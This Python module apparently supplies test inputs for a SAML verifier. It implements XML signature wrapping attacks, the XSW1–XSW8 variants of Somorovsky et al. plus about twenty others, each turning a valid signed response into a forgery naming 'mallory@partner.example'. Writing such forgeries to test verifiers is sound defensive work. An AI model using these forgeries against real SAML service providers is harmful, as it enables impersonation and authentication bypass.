"""XML signature wrapping: every way we know to show a verifier the signed part and a reader another one.

XSW1 to XSW8 are those of Somorovsky et al., “On Breaking SAML: Be Whoever You Want to Be” (USENIX Security 2012), as
numbered by SAML Raider; the others move, double, hide or detach parts. Each takes a valid signed response and returns a
forged one, in which the subject is `EVIL` wherever a careless reader might look.
"""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree
from saml_signer import DS, SAML, SAMLP, Element

EVIL = "mallory@partner.example"
SIGNATURE = f"{{{DS}}}Signature"
ASSERTION = f"{{{SAML}}}Assertion"
Forge = Callable[[Element], Element]
OF_ASSERTION: dict[str, Forge] = {}
OF_RESPONSE: dict[str, Forge] = {}


def forged(element: Element, identifier: str | None = "_evil") -> Element:
    """A copy that names somebody else, under another ID (None: the same), without any signature."""
    twin = copy.deepcopy(element)
    twin.tail = None
    for found in list(twin.iter(SIGNATURE)):
        parent = found.getparent()
        if parent is not None:
            parent.remove(found)
    for name in twin.iter(f"{{{SAML}}}NameID"):
        name.text = EVIL
    if identifier is not None:
        twin.set("ID", identifier)
    return twin


def signature_of(element: Element) -> Element:
    found = element.find(SIGNATURE)
    assert found is not None
    return found


def assertion_of(response: Element) -> Element:
    found = response.find(ASSERTION)
    assert found is not None
    return found


def within(name: str, child: Element, namespace: str = SAMLP) -> Element:
    wrapper = etree.Element(f"{{{namespace}}}{name}")
    wrapper.append(child)
    return wrapper


def of_assertion(forge: Forge) -> Forge:
    OF_ASSERTION[forge.__name__] = forge
    return forge


def of_response(forge: Forge) -> Forge:
    OF_RESPONSE[forge.__name__] = forge
    return forge


# --- the response is signed ------------------------------------------------------------------------------------------


@of_response
def xsw1(response: Element) -> Element:
    """The signed response moves into the signature of an evil one."""
    evil, signature = forged(response), copy.deepcopy(signature_of(response))
    signature.append(response_without_signature(response))
    evil.insert(1, signature)
    return evil


@of_response
def xsw2(response: Element) -> Element:
    """The signed response stands before its detached signature, both inside an evil one."""
    evil, signature = forged(response), copy.deepcopy(signature_of(response))
    evil.insert(1, signature)
    evil.insert(1, response_without_signature(response))
    return evil


def response_without_signature(response: Element) -> Element:
    plain = copy.deepcopy(response)
    plain.remove(signature_of(plain))
    return plain


@of_response
def response_in_extensions(response: Element) -> Element:
    evil = forged(response)
    evil.insert(1, within("Extensions", copy.deepcopy(response)))
    return evil


@of_response
def response_in_status_detail(response: Element) -> Element:
    evil = forged(response)
    evil[1].append(within("StatusDetail", copy.deepcopy(response)))
    return evil


@of_response
def evil_assertion_first(response: Element) -> Element:
    response.insert(1, forged(assertion_of(response)))
    return response


@of_response
def evil_assertion_inside_the_signature(response: Element) -> Element:
    """What the enveloped transform takes out is not signed."""
    signature_of(response).append(within("Object", forged(assertion_of(response)), DS))
    return response


@of_response
def evil_assertion_in_key_info(response: Element) -> Element:
    signature_of(response).append(within("KeyInfo", forged(assertion_of(response)), DS))
    return response


@of_response
def evil_name_in_key_info(response: Element) -> Element:
    """No second assertion: only its subject, for a reader that looks anywhere."""
    subject = forged(assertion_of(response)).find(f"{{{SAML}}}Subject")
    assert subject is not None
    signature_of(response).append(within("KeyInfo", subject, DS))
    return response


@of_response
def evil_root_around_it(response: Element) -> Element:
    evil = forged(response)
    evil.append(copy.deepcopy(response))
    return evil


@of_response
def same_id_around_it(response: Element) -> Element:
    evil = forged(response, None)
    evil.append(copy.deepcopy(response))
    return evil


@of_response
def assertion_replaced(response: Element) -> Element:
    response.replace(assertion_of(response), forged(assertion_of(response), None))
    return response


@of_response
def signature_kept_assertion_added(response: Element) -> Element:
    response.append(forged(assertion_of(response)))
    return response


@of_response
def response_below_another_root(response: Element) -> Element:
    return within("Wrapper", response)


# --- the assertion is signed -----------------------------------------------------------------------------------------


@of_assertion
def xsw3(response: Element) -> Element:
    """An evil assertion before the signed one."""
    response.insert(response.index(assertion_of(response)), forged(assertion_of(response)))
    return response


@of_assertion
def xsw4(response: Element) -> Element:
    """The signed assertion inside an evil one."""
    good = assertion_of(response)
    evil = forged(good)
    response.replace(good, evil)
    evil.append(good)
    return response


@of_assertion
def xsw5(response: Element) -> Element:
    """The evil assertion keeps the signature; the signed one, without it, stands at the end."""
    good = assertion_of(response)
    signature = signature_of(good)
    evil = forged(good)
    good.remove(signature)
    evil.insert(1, signature)
    response.insert(response.index(good), evil)
    return response


@of_assertion
def xsw6(response: Element) -> Element:
    """The signed assertion moves into the signature of the evil one."""
    good = assertion_of(response)
    signature = signature_of(good)
    evil = forged(good)
    response.replace(good, evil)
    good.remove(signature)
    signature.append(good)
    evil.insert(1, signature)
    return response


@of_assertion
def xsw7(response: Element) -> Element:
    """The evil assertion in Extensions, before the signed one."""
    response.insert(1, within("Extensions", forged(assertion_of(response), None)))
    return response


@of_assertion
def xsw8(response: Element) -> Element:
    """The signed assertion in an Object of the signature that the evil one carries."""
    good = assertion_of(response)
    signature = signature_of(good)
    evil = forged(good, None)
    response.replace(good, evil)
    good.remove(signature)
    signature.append(within("Object", good, DS))
    evil.insert(1, signature)
    return response


@of_assertion
def evil_last(response: Element) -> Element:
    response.append(forged(assertion_of(response)))
    return response


@of_assertion
def evil_with_the_same_id(response: Element) -> Element:
    response.append(forged(assertion_of(response), None))
    return response


@of_assertion
def evil_with_its_id_spelled_otherwise(response: Element) -> Element:
    evil = forged(assertion_of(response))
    evil.set("Id", str(evil.attrib.pop("ID")))
    response.insert(1, evil)
    return response


@of_assertion
def evil_in_another_namespace(response: Element) -> Element:
    evil = forged(assertion_of(response))
    evil.tag = "{urn:example}Assertion"
    response.insert(1, evil)
    return response


@of_assertion
def evil_as_advice(response: Element) -> Element:
    response.insert(1, within("Advice", forged(assertion_of(response)), SAML))
    return response


@of_assertion
def evil_response_inside(response: Element) -> Element:
    response.append(forged(response))
    return response


@of_assertion
def signature_beside_the_assertion(response: Element) -> Element:
    """Detached: the signature fits, but stands in the response."""
    response.insert(1, signature_of(assertion_of(response)))
    return response


@of_assertion
def signature_deeper_in_the_assertion(response: Element) -> Element:
    good = assertion_of(response)
    good[-1].append(signature_of(good))
    return response


@of_assertion
def signature_twice(response: Element) -> Element:
    good = assertion_of(response)
    good.insert(1, copy.deepcopy(signature_of(good)))
    return response


@of_assertion
def signature_of_the_assertion_as_that_of_an_evil_response(response: Element) -> Element:
    evil = forged(response, None)
    evil.insert(1, copy.deepcopy(signature_of(assertion_of(response))))
    return evil


@of_assertion
def signature_removed(response: Element) -> Element:
    good = assertion_of(response)
    good.remove(signature_of(good))
    return response


@of_assertion
def signature_removed_and_renamed(response: Element) -> Element:
    response.replace(assertion_of(response), forged(assertion_of(response), None))
    return response


@of_assertion
def signed_assertion_beside_an_encrypted_one(response: Element) -> Element:
    response.append(etree.Element(f"{{{SAML}}}EncryptedAssertion"))
    return response
